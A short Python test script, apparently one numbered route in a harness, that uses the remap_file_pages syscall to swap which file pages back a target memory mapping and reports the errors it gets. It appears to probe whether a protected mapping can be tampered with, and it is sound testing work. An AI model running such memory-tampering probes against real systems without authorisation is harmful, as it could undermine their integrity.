"""Route 14: remap_file_pages (syscall 216) on the target: rearrange which file pages back it.
Run: python r14_remap_file_pages.py"""
import ctypes
from harness import run_route, en, sys_call

def attack(t):
    r, e = sys_call(t.libc, 216, ctypes.c_void_p(t.addr), t.page, 0, 1, 0)  # page 0 <- file page 1
    r2, e2 = sys_call(t.libc, 216, ctypes.c_void_p(t.dst), t.page, 0, 0, 0)  # page 1 <- file page 0
    return f"rfp(page0<-1):{en(e)} rfp(page1<-0):{en(e2)}"

if __name__ == "__main__":
    run_route("r14_remap_file_pages", attack)
